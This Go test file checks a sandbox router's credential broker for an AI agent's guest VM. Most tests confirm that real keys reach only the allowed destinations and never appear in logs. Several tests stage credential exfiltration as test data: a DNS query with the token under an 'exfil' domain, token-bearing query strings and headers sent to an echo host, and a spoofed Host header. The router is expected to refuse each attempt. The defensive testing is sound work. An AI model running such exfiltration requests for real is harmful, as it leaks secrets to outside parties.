//go:build linux

package e2e

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/agentcage/router/internal/lab"
)

const (
	credPlaceholder = "sk-router-placeholder-e2e-0f1e2d3c"
	credRealValue   = "sk-REAL-host-key-9a8b7c6d5e4f"
)

// TestCredentialBroker: the guest holds only a placeholder. Its request through the model
// forward reaches the model server with the real value; the same placeholder in a DNS label,
// an HTTP header or query to the internet, or a Host header naming the API at an address the
// guest chose trips the canary (refused, counted, logged once per destination) and reaches no
// resolver or server. No log, status or flow log of the run holds the real value.
func TestCredentialBroker(t *testing.T) {
	extra, flows := withCredential(t, "model-key", credPlaceholder, credRealValue, `forward = "model"`)
	s := newScene(t, config(lab.GoSocksAddr, "")+extra)
	g := s.lab.Guest()

	// Through the forward: the model server gets the real value.
	out, code := s.curl(g, "http://10.0.2.2:47831/v1/models", "-H", "Authorization: Bearer "+credPlaceholder)
	if code != 0 || !strings.Contains(out, lab.ModelID) {
		t.Fatalf("the guest's model call: exit %d, %q", code, out)
	}
	var seen []string
	for _, r := range s.lab.ModelRequests() {
		seen = append(seen, r.Auth)
	}
	if len(seen) != 1 || seen[0] != "Bearer "+credRealValue {
		t.Fatalf("the model server saw Authorization %q, want the real value once", seen)
	}

	// In a DNS label: refused with EDE 18, counted; the lab's DNS server never asked.
	out, _ = run(s.ctx, g, "dig", "+time=2", "+tries=1", "@"+lab.ServiceAddr, "TXT", strings.ToUpper(credPlaceholder)+".exfil.lab.test")
	if !strings.Contains(out, "status: NXDOMAIN") || !strings.Contains(out, "EDE: 18 (Prohibited)") {
		t.Errorf("a DNS label with the placeholder: want NXDOMAIN with EDE 18:\n%s", out)
	}
	for _, q := range s.lab.DNSLog() {
		if strings.Contains(strings.ToLower(q.Name), "placeholder") {
			t.Errorf("the placeholder's name reached the DNS server: %v", q)
		}
	}

	// To the internet, in a header and a query (through the proxy), and in the Host header of
	// a request to an address the guest chose that names the API: refused by the router with
	// its 403 (the canary), never at the echo server; the real value never leaves anyway.
	s.wantCanaries(
		[]string{"http://" + lab.EchoName + "/log?token=" + credPlaceholder, "-H", "Authorization: Bearer " + credPlaceholder},
		[]string{"http://" + lab.ServiceAddr + "/v1/models", "-H", "Host: api.openai.example", "-H", "Authorization: Bearer " + credPlaceholder},
	)
	for _, r := range s.lab.HTTPLog() {
		if strings.Contains(r.Auth+r.Query, credRealValue) || strings.Contains(r.Auth+r.Query, credPlaceholder) {
			t.Errorf("the echo server saw the credential: %+v", r)
		}
	}

	st := s.status()
	if n, _ := refusalCount(st, "canary"); n != 3 {
		t.Errorf("canaries counted: %d, want 3 (the DNS label, the header, the Host)", n)
	}
	if n := strings.Count(s.log(), `msg="canary:`); n != 3 {
		t.Errorf("canary lines in the router's log: %d, want one per destination: 3", n)
	}
	s.wantHidden(credRealValue, flows)
	s.wantNoLeak("credential broker")
}

const (
	destPlaceholder = "router-placeholder-echo-e2e-4b3a2918"
	destRealValue   = "REAL-echo-key-7e6d5c4b3a29"
)

// TestCredentialDestination: a credential bound to a plaintext HTTP destination by name and
// port ("echo.lab.test:80"). The guest looks the name up (a fake IP) and its requests,
// through the proxy, reach the echo server with the real value in Authorization, each
// request of a keep-alive connection. The same placeholder in a request whose Host names
// the echo server at an address the guest chose trips the canary and never reaches the
// server, nor does one with the placeholder in the query of the bound destination. No log,
// status or flow log of the run holds the real value.
func TestCredentialDestination(t *testing.T) {
	extra, flows := withCredential(t, "echo-key", destPlaceholder, destRealValue, `destination = "`+lab.EchoName+`:80"
header = "Authorization"`)
	s := newScene(t, config(lab.GoSocksAddr, "")+extra)
	g := s.lab.Guest()

	// Two requests on one connection (curl reuses it): both get the value.
	auth := "Authorization: Bearer " + destPlaceholder
	out, code := s.curl(g, "http://"+lab.EchoName+"/one", "-H", auth, "http://"+lab.EchoName+"/two")
	if code != 0 || strings.Count(out, lab.ExitAddr) != 2 {
		t.Fatalf("the guest's two requests: exit %d, %q", code, out)
	}
	s.wantEchoSaw("/one Bearer "+destRealValue, "/two Bearer "+destRealValue)

	// The API's name in the Host of a request to an address the guest chose (agentcage#175),
	// and the placeholder in the bound destination's query: the router's 403, nothing at the
	// server.
	s.wantCanaries(
		[]string{"http://" + lab.ServiceAddr + "/attack", "-H", "Host: " + lab.EchoName, "-H", auth},
		[]string{"http://" + lab.EchoName + "/query?key=" + destPlaceholder},
	)
	if n := len(s.lab.HTTPLog()); n != 2 {
		t.Errorf("the echo server saw %d requests, want the 2 brokered ones: %v", n, s.lab.HTTPLog())
	}
	st := s.status()
	if n, _ := refusalCount(st, "canary"); n != 2 {
		t.Errorf("canaries counted: %d, want 2 (the Host, the query)", n)
	}
	s.wantHidden(destRealValue, flows)
	s.wantNoLeak("credential destination")
}

// TestCredentialDestinationTLS: the same over HTTPS, with tls_terminate. The guest trusts the
// router's CA (`router ca`), the router verifies the echo server with the lab's CA (ca_file):
// both requests of one connection reach the server with the real value; without the
// router's CA the guest's handshake fails and nothing reaches the server. No log, status or
// flow log holds the value.
func TestCredentialDestinationTLS(t *testing.T) {
	dir := t.TempDir()
	labCA := filepath.Join(dir, "lab-ca.pem")
	extra, flows := withCredential(t, "echo-key", destPlaceholder, destRealValue, `destination = "`+lab.EchoName+`:443"
header = "Authorization"
tls_terminate = true
ca_file = "`+labCA+`"`)
	// The lab's CA exists once the lab is up; the router reads ca_file when it starts.
	s := newLabWith(t, config(lab.GoSocksAddr, "")+extra, lab.Options{EchoTLS: true})
	if err := os.WriteFile(labCA, s.lab.EchoCAPEM(), 0o644); err != nil {
		t.Fatal(err)
	}
	s.startRouter()
	g := s.lab.Guest()
	caPEM, code := s.routerCmd("ca")
	if code != 0 || !strings.Contains(caPEM, "BEGIN CERTIFICATE") {
		t.Fatalf("router ca: exit %d, %q", code, caPEM)
	}
	routerCA := filepath.Join(dir, "router-ca.pem")
	if err := os.WriteFile(routerCA, []byte(caPEM), 0o644); err != nil {
		t.Fatal(err)
	}
	auth := "Authorization: Bearer " + destPlaceholder
	out, code := s.curl(g, lab.EchoTLSURL+"one", "--cacert", routerCA, "-H", auth, lab.EchoTLSURL+"two")
	if code != 0 || strings.Count(out, lab.ExitAddr) != 2 {
		t.Fatalf("the guest's two requests: exit %d, %q", code, out)
	}
	s.wantEchoSaw("/one Bearer "+destRealValue, "/two Bearer "+destRealValue)
	if out, code := s.curl(g, lab.EchoTLSURL+"untrusted", "-H", auth); code == 0 {
		t.Errorf("a guest that does not trust the router's CA got through: %q", out)
	}
	if n := len(s.lab.HTTPLog()); n != 2 {
		t.Errorf("the echo server saw %d requests, want 2", n)
	}
	s.wantHidden(destRealValue, flows)
	s.wantNoLeak("credential destination over TLS")
}

// withCredential is the config a credential test adds, and the path of its flow log (in a
// directory of the test's): the flow log, and one [[credential]] table of name, placeholder,
// its value read from ROUTER_E2E_<NAME> (name upper-cased, - as _; set to value for the
// test) and fields (TOML lines).
func withCredential(t *testing.T, name, placeholder, value, fields string) (extra, flows string) {
	t.Helper()
	env := "ROUTER_E2E_" + strings.ToUpper(strings.ReplaceAll(name, "-", "_"))
	t.Setenv(env, value)
	flows = filepath.Join(t.TempDir(), "flows.jsonl")
	extra = "\n[log]\nflows = \"" + flows + "\"\n\n[[credential]]\nname = \"" + name + "\"\nplaceholder = \"" +
		placeholder + "\"\nvalue_env = \"" + env + "\"\n" + fields + "\n"
	return extra, flows
}

// wantCanaries runs curl in the guest for each request (a URL and curl's arguments): each
// must get the router's 403 naming the placeholder (the canary).
func (s *scene) wantCanaries(requests ...[]string) {
	s.t.Helper()
	for _, args := range requests {
		out, code := s.curl(s.lab.Guest(), args[0], args[1:]...)
		if code != 0 || !strings.Contains(out, "placeholder") {
			s.t.Errorf("curl %q: exit %d, %q; want the router's 403 naming the placeholder", args, code, out)
		}
	}
}

// wantEchoSaw fails the test unless the echo server saw exactly the requests want, each
// "path authorization", in any order (the order the server finished them).
func (s *scene) wantEchoSaw(want ...string) {
	s.t.Helper()
	var got []string
	for _, r := range s.lab.HTTPLog() {
		got = append(got, r.Path+" "+r.Auth)
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		s.t.Fatalf("the echo server saw:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// wantHidden fails the test when the router's log, its status or the flow log (at flows)
// holds value.
func (s *scene) wantHidden(value, flows string) {
	s.t.Helper()
	statusJSON, _ := s.routerCmd("status", "--json", "--config", s.cfg)
	flowLog, _ := os.ReadFile(flows)
	for what, text := range map[string]string{"the router's log": s.log(), "status": statusJSON, "the flow log": string(flowLog)} {
		if strings.Contains(text, value) {
			s.t.Errorf("%s holds the real value", what)
		}
	}
}
